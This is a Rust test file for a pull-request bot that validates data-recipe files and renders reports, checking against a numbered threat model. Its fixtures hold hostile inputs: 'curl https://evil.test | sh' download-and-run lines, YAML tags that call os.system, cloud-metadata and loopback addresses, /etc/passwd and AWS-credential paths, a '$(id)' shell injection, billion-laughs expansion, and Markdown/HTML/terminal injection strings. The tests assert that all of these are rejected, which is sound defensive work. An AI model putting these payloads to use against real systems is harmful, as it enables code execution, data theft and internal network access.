//! What the bot makes of a stranger's pull request: which recipes changed, how hostile recipes and hostile results end, and what is
//! shown of them. The names say which row of the threat model (T1 …) a test holds.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, reason = "a test fails by panicking")]

mod changes;
mod graduate;
mod health;
#[path = "../made_files/mod.rs"]
mod made_files;
mod pictures;
#[path = "../runs/mod.rs"]
mod runs;
mod threats;

use std::sync::Arc;
use std::sync::atomic::AtomicBool;
use std::time::{Duration, Instant};

use gristmill::bot::artifact::{Artifact, Change, LARGEST, Unbelievable, Verdict, read};
use gristmill::bot::decide::Sha;
use gristmill::bot::render::{self, MARK};
use gristmill::bot::trial::{Subject, Terms, test};
use gristmill::event::{Reporter, Silent};
use gristmill::store::Access;
use serde_json::{Value, json};

fn sha(digit: char) -> Sha {
    digit.to_string().repeat(40).parse().unwrap()
}

/// A result in which everything went well.
fn good() -> Value {
    json!({
        "version": 1, "gristmill": "0.1.0", "head": sha('a'), "files": 2, "refused": [], "privileged": [],
        "recipes": [{
            "id": "ice", "path": "recipes/ice/recipe.yaml", "change": "added", "verdict": "passed", "stage": "verify", "exit": 0,
            "dataset": {
                "title": "Sea ice", "license": "CC0-1.0",
                "axes": [{"name": "time", "length": 10, "first": "2006", "last": "2015"}],
                "dimensions": [{"name": "time", "length": 40, "full": 100}, {"name": "lat", "length": 3, "full": 3}],
                "variables": [
                    {"name": "time", "dtype": "float64", "dimensions": ["time"], "chunks": [40], "chunk_bytes": 320},
                    {"name": "sic", "dtype": "float32", "dimensions": ["time", "lat"], "chunks": [40, 3], "chunk_bytes": 480}
                ]
            },
            "tested": {"inputs": 4, "fetch_bytes": 4000, "value_bytes": 480, "stored_bytes": 300, "milliseconds": 1500, "compared": 5, "of": 5},
            "full": {"inputs": 10, "fetch_bytes": 10000, "stored_bytes": 750, "milliseconds": 3750},
            "errors": [], "warnings": ["two gaps"]
        }]
    })
}

fn believed(value: &Value) -> Result<Artifact, Unbelievable> {
    read(value.to_string().as_bytes(), &sha('a'))
}

/// The good result with one value replaced, or added.
fn with(pointer: &str, value: Value) -> Value {
    let mut result = good();
    if let Some(place) = result.pointer_mut(pointer) {
        *place = value;
    } else {
        let (parent, name) = pointer.rsplit_once('/').unwrap();
        result.pointer_mut(parent).unwrap().as_object_mut().unwrap().insert(name.to_owned(), value);
    }
    result
}

#[test]
fn t3_only_what_keeps_every_rule_is_believed() {
    assert!(believed(&good()).is_ok());
    let long = Value::from("x".repeat(4001));
    let recipe = good()["recipes"][0].clone();
    let many = Value::from(
        (0..101)
            .map(|n| {
                let mut one = recipe.clone();
                one["id"] = format!("a{n}").into();
                one
            })
            .collect::<Vec<_>>(),
    );
    let rows = [
        ("unknown field", with("/pull_request", json!(1))),
        ("unknown field deep inside", with("/recipes/0/dataset/script", json!("x"))),
        ("another commit", with("/head", json!(sha('b')))),
        ("a branch instead of a commit", with("/head", json!("main"))),
        ("another version", with("/version", json!(2))),
        ("a path that climbs", with("/recipes/0/path", json!("recipes/../../.ssh/id.yaml"))),
        ("an absolute path", with("/recipes/0/path", json!("/etc/x.yaml"))),
        ("a path with words for a shell", with("/recipes/0/path", json!("recipes/$(id)/recipe.yaml"))),
        ("a path that is an option", with("/recipes/0/path", json!("recipes/-x/recipe.yaml"))),
        ("an id with markup", with("/recipes/0/id", json!("a`<img>"))),
        ("green without a store", with("/recipes/0/tested", Value::Null)),
        ("green with nothing compared", with("/recipes/0/tested/compared", json!(0))),
        ("green with an error", with("/recipes/0/errors", json!([{"code": null, "message": "x", "line": null, "help": null}]))),
        ("green before verification", with("/recipes/0/stage", json!("bake"))),
        ("green with an exit code", with("/recipes/0/exit", json!(4))),
        ("red without an error", with("/recipes/0/verdict", json!("failed"))),
        ("skipped although new", with("/recipes/0/verdict", json!("skipped"))),
        ("a long text", with("/recipes/0/dataset/title", long)),
        ("a number that is too large", with("/recipes/0/full/fetch_bytes", json!(u64::MAX))),
        ("a negative number", with("/files", json!(-1))),
        ("too many recipes", with("/recipes", many)),
        ("a recipe twice", with("/recipes", json!([recipe, recipe]))),
        ("too many warnings", with("/recipes/0/warnings", json!(vec!["x"; 201]))),
        ("a list", json!([])),
        ("deep nesting", json!(null)),
    ];
    for (name, row) in &rows {
        assert!(believed(row).is_err(), "{name}");
    }
    for bytes in [&b""[..], b"\xff\xfe", b"{", "[".repeat(100_000).as_bytes(), &[b' '; 64]] {
        assert_eq!(read(bytes, &sha('a')), Err(Unbelievable::Malformed));
    }
    assert_eq!(read(&vec![b' '; LARGEST + 1], &sha('a')), Err(Unbelievable::TooLarge));
    let error = believed(&with("/gristmill", json!({"@everyone": "x"}))).unwrap_err();
    assert!(!render::without_result(&sha('a'), Some(&error)).contains("everyone"), "an error quotes nothing");
}

/// Texts that would do something if Markdown, HTML, a terminal or a runner saw them.
const HOSTILE: [&str; 16] = [
    "@everyone @github/admins",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.test/pixel.png)",
    "[click](javascript:alert(1))",
    "https://evil.test www.evil.test a@evil.test",
    "` `` ``` ```` @out",
    "a|b\\|@out|c",
    "x\n\n# heading\n- [ ] task",
    "::set-output name=x::y\n::add-mask::z",
    "\u{1b}]0;title\u{7}\u{1b}[2J",
    "\u{202e}txt.exe\u{2066}",
    "#1 GH-1 owner/repo#1 aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
    "</details></summary>--><!-- gristmill:report -->",
    "$`\\text{x}`$ :tada: ~~x~~ **y**",
    "\u{61c}\u{ad}\u{e0041}\u{200b}",
];

/// What is outside of code spans and blocks, read as `CommonMark` reads it.
fn outside_code(markdown: &str) -> String {
    let mut outside = String::new();
    let mut fenced = false;
    for line in markdown.lines() {
        if line.starts_with("```") {
            fenced = !fenced;
            continue;
        }
        if fenced {
            continue;
        }
        let parts: Vec<&str> = line.split('`').collect();
        assert!(parts.len() % 2 == 1, "a code span that does not end: {line}");
        outside.extend(parts.iter().step_by(2).copied());
        outside.push('\n');
    }
    assert!(!fenced, "a code block that does not end");
    outside
}

#[test]
fn t14_foreign_text_stays_in_code() {
    let clean = render::comment(&believed(&good()).unwrap());
    for hostile in HOSTILE {
        let mut result = good();
        result["gristmill"] = hostile.into();
        result["privileged"] = json!([hostile]);
        let error = json!({"code": hostile, "message": hostile, "line": 3, "help": hostile});
        let recipe = &mut result["recipes"][0];
        recipe["dataset"]["title"] = hostile.into();
        recipe["dataset"]["license"] = hostile.into();
        recipe["dataset"]["axes"] = json!([{"name": hostile, "length": 1, "first": hostile, "last": hostile}]);
        recipe["dataset"]["dimensions"][0]["name"] = hostile.into();
        recipe["dataset"]["variables"][1] =
            json!({"name": hostile, "dtype": hostile, "dimensions": [hostile], "chunks": [1], "chunk_bytes": 1});
        recipe["warnings"] = json!([hostile]);
        let mut failed = recipe.clone();
        (failed["id"], failed["verdict"], failed["exit"], failed["errors"]) = ("sst".into(), "failed".into(), 4.into(), json!([error]));
        result["recipes"].as_array_mut().unwrap().push(failed);
        result["recipes"].as_array_mut().unwrap().truncate(2);
        let artifact = believed(&result).unwrap();
        let comment = render::comment(&artifact);
        let outside = outside_code(&comment);
        for word in ["@", "](", "<script", "<img", "evil", "::", "# heading", "GH-1", "~~", "**", ":tada:", "$", "title"] {
            assert!(!outside.contains(word), "{word:?} of {hostile:?} got out:\n{outside}");
        }
        assert_eq!(
            comment.matches(MARK).count(),
            1 + usize::from(hostile.contains(MARK)) * comment.matches(MARK).count().saturating_sub(1)
        );
        assert!(!comment.chars().any(|letter| letter != '\n' && (letter.is_control() || ('\u{202a}'..='\u{202e}').contains(&letter))));
        let cells = |text: &str| text.lines().filter(|line| line.starts_with("| ")).map(|line| line.matches('|').count()).max();
        assert_eq!(cells(&comment), cells(&clean), "a cell more");
        for check in render::checks(&artifact) {
            outside_code(check["output"]["summary"].as_str().unwrap());
            assert!(!check["output"]["title"].as_str().unwrap().contains(['@', '<']));
            assert!(check["output"]["annotations"].as_array().unwrap().iter().all(|one| one["path"] == "recipes/ice/recipe.yaml"));
        }
    }
}

#[test]
fn a_comment_says_what_happened_and_fits() {
    let artifact = believed(&good()).unwrap();
    let comment = render::comment(&artifact);
    assert!(comment.starts_with(MARK) && comment.contains("1 of 1 recipes pass"));
    for word in [
        "`ice`: baked from 4 files, opened again, 5 of 5 parts equal",
        "time: 40 (in full about 100)",
        "| `sic` | `float32` | 40 × 3 |",
        "`two gaps`",
        "Cost class: small",
        "first `2006`, last `2015`",
        "gristmill bot test --head aaaa",
    ] {
        assert!(comment.contains(word), "{word} not in\n{comment}");
    }
    let check = render::checks(&artifact).remove(0);
    assert_eq!((&check["name"], &check["conclusion"]), (&json!("gristmill: ice"), &json!("success")));
    let mut large = good();
    let mut recipe = large["recipes"][0].clone();
    recipe["warnings"] = json!(vec!["w".repeat(4000); 100]);
    large["recipes"] = (0..2)
        .map(|n| {
            let mut one = recipe.clone();
            one["id"] = format!("a{n}").into();
            one
        })
        .collect();
    assert!(render::comment(&believed(&large).unwrap()).len() < 65_536);
    assert!(render::without_result(&sha('a'), None).starts_with(MARK));
}

fn tested(text: &str, access: &Access) -> gristmill::bot::artifact::Outcome {
    let work = tempfile::tempdir().unwrap();
    let subject = Subject {
        id: "x".into(),
        path: "recipes/x/recipe.yaml".into(),
        change: Change::Added,
        text: text.into(),
        base: work.path().to_owned(),
    };
    let reporter: Arc<dyn Reporter> = Arc::new(Silent);
    let terms = Terms {
        head: &sha('a'),
        day: jiff::civil::date(2026, 11, 21),
        bytes: 1 << 30,
        time: Duration::from_mins(1),
        memory: 256 << 20,
        threads: 1,
        work: work.path(),
        access,
        reporter: &reporter,
        stop: &AtomicBool::new(false),
    };
    test(&subject, &terms)
}

/// Recipes that try to get at something: code, files, networks, secrets, other places, or all the memory and time there is.
#[expect(clippy::too_many_lines, reason = "a list")]
fn hostile_recipes() -> Vec<(String, String)> {
    let head = "schema: 1\nid: x\ntitle: T\nlicense: CC0-1.0\n";
    let file = |url: &str| format!("{head}inputs:\n  files: [{url:?}]\n");
    let mut corpus: Vec<(String, String)> = Vec::new();
    let mut add = |name: String, text: String| corpus.push((name, text));
    for tag in [
        "!!python/object/apply:os.system [id]",
        "!!python/object/new:os.system [id]",
        "!!python/name:os.system",
        "!!java.net.URL [x]",
        "!ruby/object:Gem {}",
        "!!js/function 'x'",
        "!include /etc/passwd",
        "!env HOME",
        "!!binary aWQ=",
        "!vault x",
    ] {
        add(format!("T1 tag {tag}"), format!("{head}description: {tag}\ninputs: {{files: [\"https://h.test/a.nc\"]}}\n"));
    }
    for key in [
        "hooks",
        "script",
        "exec",
        "python",
        "requirements",
        "preprocess",
        "entrypoint",
        "env",
        "run",
        "plugins",
        "include",
        "extends",
        "dict_object",
        "target",
        "storage",
        "secrets",
    ] {
        add(format!("T1 key {key}"), format!("{}{key}: [\"curl https://evil.test | sh\"]\n", file("https://h.test/a.nc")));
    }
    for template in ["{time.__class__}", "{env:HOME}", "${HOME}/a.nc", "{secrets.TOKEN}", "{time!r}", "{0}"] {
        add(
            format!("T1 template {template}"),
            format!("{head}inputs:\n  url: {:?}\n  keys: {{n: {{list: [1]}}}}\n", format!("https://h.test/{template}/x.nc")),
        );
    }
    for host in [
        "127.0.0.1",
        "2130706433",
        "0x7f.1",
        "017700000001",
        "[::1]",
        "[::ffff:10.0.0.1]",
        "169.254.169.254",
        "10.0.0.1",
        "192.168.1.1",
        "172.16.0.1",
        "100.64.0.1",
        "0.0.0.0",
        "localhost",
        "localhost.",
        "metadata.google.internal",
        "[fd00::1]",
        "[fe80::1]",
        "168.63.129.16",
    ] {
        add(format!("T8 host {host}"), file(&format!("http://{host}/a.nc")));
    }
    for path in [
        "/etc/passwd",
        "file:///etc/passwd",
        "../../../etc/passwd",
        "~/.aws/credentials",
        "a.nc",
        "memory://x/a.nc",
        "gopher://h.test/a",
        "jar:file:///x!/a.nc",
        "simplecache::https://h.test/a.nc",
        "\\\\host\\share\\a.nc",
    ] {
        add(format!("T9 path {path}"), file(path));
    }
    for id in ["../up", "/abs", "a/b", "A", "a b", "a%2fb", "a\\u0000", "", ".."] {
        add(format!("T10 id {id}"), file("https://h.test/a.nc").replace("id: x", &format!("id: \"{id}\"")));
    }
    let laughs: String = (1..12).map(|n| format!("a{n}: &a{n} [{}]\n", vec![format!("*a{}", n - 1); 9].join(","))).collect();
    add("T12 billion laughs".into(), format!("a0: &a0 [lol]\n{laughs}{}", file("https://h.test/a.nc")));
    add("T12 deep lists".into(), format!("{head}inputs: {}\n", "[".repeat(50_000)));
    add("T12 deep mappings".into(), format!("{head}inputs: {}\n", "{a: ".repeat(50_000)));
    add("T12 huge".into(), format!("{head}description: {}\n", "x".repeat(2 << 20)));
    add("T12 merge keys".into(), format!("{head}<<: {{files: []}}\n"));
    add("T13 password in an address".into(), file("https://user:hunter2@127.0.0.1/a.nc"));
    add(
        "T16 a thousand million dates".into(),
        format!(
            "{head}inputs:\n  url: \"https://h.test/{{time:%Y%m%d%H%M%S}}.nc\"\n  keys:\n    time: {{dates: {{start: 1900-01-01, end: 2100-01-01, step: 1 second}}}}\ncombine: {{concat: [time]}}\n"
        ),
    );
    add(
        "T16 a product of lists".into(),
        format!(
            "{head}inputs:\n  url: \"https://h.test/{{a}}{{b}}{{c}}{{d}}.nc\"\n  keys:\n    a: {{range: {{start: 1, end: 99999}}}}\n    b: {{range: {{start: 1, end: 99999}}}}\n    c: {{range: {{start: 1, end: 99999}}}}\n    d: {{range: {{start: 1, end: 99999}}}}\ncombine: {{concat: [{{dim: t, keys: [a, b, c, d]}}]}}\n"
        ),
    );
    add("nothing".into(), String::new());
    add("NUL".into(), format!("{head}title: \"a\\0b\0\"\n"));
    corpus
}

#[test]
fn t1_t8_t9_t10_t12_t13_t16_no_hostile_recipe_gets_anywhere() {
    let access = Access { untrusted: true, ..Access::default() };
    let corpus = hostile_recipes();
    assert!(corpus.len() >= 60, "{}", corpus.len());
    for (name, text) in corpus {
        let begun = Instant::now();
        let outcome = tested(&text, &access);
        assert_eq!((outcome.verdict, outcome.exit), (Verdict::Failed, 2), "{name}: {:?}", outcome.errors);
        assert!(outcome.tested.is_none() && !outcome.errors.is_empty(), "{name}");
        let shown = serde_json::to_string(&outcome).unwrap();
        assert!(!shown.contains("hunter2") && !shown.contains("root:x:"), "{name}: {shown}");
        assert!(begun.elapsed() < Duration::from_secs(20), "{name} took {:?}", begun.elapsed());
    }
}
